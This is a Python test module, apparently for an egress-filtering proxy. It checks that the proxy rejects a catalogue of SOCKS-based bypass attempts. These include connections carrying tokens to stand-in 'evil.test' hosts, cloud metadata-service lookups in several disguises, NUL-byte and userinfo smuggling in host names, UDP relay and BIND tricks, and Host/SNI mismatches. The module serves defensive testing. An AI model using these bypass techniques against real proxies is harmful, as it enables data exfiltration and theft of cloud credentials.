"""SOCKS, of every version, and of none."""

import socket
import struct

import addresses
import wire
from attempt import THROUGH, Attempt, Denied

DENIED = "reply 2"
# Not a request that this proxy knows: RFC 1928, 6.
UNKNOWN = "reply (1|2|7|8)|closed|ECONNRESET"
# Not a version that this proxy knows, which it says in HTTP.
OLD = "400 malformed"
CONNECT, BIND, ASSOCIATE = 1, 2, 3


def ask(command, address, port):
    """Says what is wanted in SOCKS5, and returns the connection and the port of the reply."""
    stream = wire.to_proxy()
    stream.sendall(b"\5\1\0")
    if exactly(stream, 2) != b"\5\0":
        raise Denied("no way to authenticate")
    stream.sendall(bytes([5, command, 0]) + address + struct.pack("!H", port))
    _, reply, _, kind = exactly(stream, 4)
    if reply:
        raise Denied(f"reply {reply}")
    length = {1: 4, 4: 16}[kind]
    bound = struct.unpack("!H", exactly(stream, length + 2)[length:])[0]
    return stream, bound


def exactly(stream, length):
    data = b""
    while len(data) < length:
        part = stream.recv(length - len(data))
        if not part:
            raise EOFError
        data += part
    return data


def name(text):
    text = wire.octets(text)
    return bytes([3, len(text)]) + text


def ipv4(address):
    return b"\1" + socket.inet_aton(address)


def ipv6(address):
    return b"\4" + socket.inet_pton(socket.AF_INET6, address)


def to_name(text, port=80, host="good.test", use=wire.fetch):
    def make(token):
        stream, _ = ask(CONNECT, name(text.format(token=token)), port)
        return (
            use(stream, token, host.format(token=token))
            if use is wire.fetch
            else use(stream, token)
        )

    return make


def to_address(address, port=80):
    return lambda token: wire.fetch(ask(CONNECT, address, port)[0], token)


def bind(_token):
    ask(BIND, ipv4(addresses.EVIL), 80)
    return THROUGH


def associate(token):
    stream, port = ask(ASSOCIATE, ipv4("0.0.0.0"), 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as relay, stream:
        relay.sendto(
            b"\0\0\0" + ipv4(addresses.EVIL) + struct.pack("!H", 443) + token.encode(),
            ("127.0.0.1", port),
        )
        relay.recv(65536)
    return THROUGH


def version_4(address, hostname=b""):
    def make(token):
        stream = wire.to_proxy()
        after = hostname.replace(b"{token}", token.encode()) + b"\0" if hostname else b""
        stream.sendall(
            struct.pack("!BBH", 4, CONNECT, 80) + socket.inet_aton(address) + b"user\0" + after
        )
        answer = wire.more(stream)
        if answer.startswith(b"\0\x5a"):
            return wire.fetch(stream, token)
        return wire.summary(wire.head_of(stream, answer)[0])[0]

    return make


def sni(token):
    stream, _ = ask(CONNECT, name("good.test"), 443)
    return wire.fetch(wire.secured(stream, f"{token}.evil.test"), "x")


EVIL_NAME = "{token}.evil.test"

ATTEMPTS = [
    Attempt(
        "socks-unlisted",
        "SOCKS5 to an unlisted name",
        to_name(EVIL_NAME, host=EVIL_NAME),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-address",
        "SOCKS5 to an address",
        to_address(ipv4(addresses.EVIL)),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-address-of-allowed",
        "SOCKS5 to the address of an allowed name",
        to_address(ipv4(addresses.GOOD)),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-ipv6",
        "SOCKS5 to an IPv6 address",
        to_address(ipv6(addresses.EVIL6)),
        DENIED,
        ruled=True,
        needs="ipv6",
    ),
    Attempt(
        "socks-mapped",
        "SOCKS5 to the metadata service's address in IPv6's clothes",
        to_address(ipv6(f"::ffff:{addresses.METADATA}")),
        DENIED,
        ruled=True,
        needs="ipv6",
    ),
    Attempt(
        "socks-metadata",
        "SOCKS5 to the metadata service",
        to_address(ipv4(addresses.METADATA)),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-metadata-name",
        "SOCKS5 to the metadata service, its address as a name",
        to_name(addresses.METADATA),
        DENIED,
    ),
    Attempt(
        "socks-metadata-integer",
        "SOCKS5 to the metadata service, one number as a name",
        to_name("2852039166"),
        f"{DENIED}|{UNKNOWN}",
    ),
    Attempt(
        "socks-loopback",
        "SOCKS5 to the host's loopback address",
        to_address(ipv4("127.0.0.1")),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-unspecified",
        "SOCKS5 to no address, which is the host's own",
        to_address(ipv4("0.0.0.0")),
        DENIED,
    ),
    Attempt(
        "socks-ssh",
        "SOCKS5 to port 22 of an allowed host",
        to_name("good.test", 22, use=wire.talk),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-trailing-dot",
        "SOCKS5 to an unlisted name with a dot at its end",
        to_name(f"{EVIL_NAME}.", host=EVIL_NAME),
        DENIED,
        ruled=True,
    ),
    Attempt(
        "socks-private-name",
        "SOCKS5 to an allowed name that has a private address",
        to_name("{token}.a-10-9-8-7.named.test", host="{token}.a-10-9-8-7.named.test"),
        DENIED,
        "private host evil",
        ruled=True,
    ),
    Attempt(
        "socks-nul",
        "SOCKS5 to an unlisted name that ends at a NUL, in front of an allowed one",
        to_name("{token}.evil.test\0.wild.test", host=EVIL_NAME),
        UNKNOWN,
    ),
    Attempt(
        "socks-nul-address",
        "SOCKS5 to an address that ends at a NUL, in front of an allowed name",
        to_name(f"{addresses.METADATA}\0.wild.test"),
        UNKNOWN,
    ),
    Attempt("socks-empty", "SOCKS5 to a name without a letter", to_name(""), UNKNOWN),
    Attempt(
        "socks-userinfo",
        "SOCKS5 to a name with a user in it",
        to_name("good.test@{token}.evil.test"),
        UNKNOWN,
    ),
    Attempt("socks-bind", "SOCKS5 that waits for a connection", bind, UNKNOWN, ""),
    Attempt("socks-associate", "SOCKS5 for datagrams", associate, UNKNOWN),
    Attempt("socks-4", "SOCKS4 to an address", version_4(addresses.EVIL), OLD),
    Attempt("socks-4a", "SOCKS4a to a name", version_4("0.0.0.1", b"{token}.evil.test"), OLD),
    Attempt(
        "socks-host",
        "ask for another host in a plain request after SOCKS5",
        to_name("good.test", host=EVIL_NAME),
        "403 other_name",
    ),
    Attempt(
        "socks-sni", "ask for another host in the TLS after SOCKS5", sni, "TLS .*ACCESS_DENIED"
    ),
]
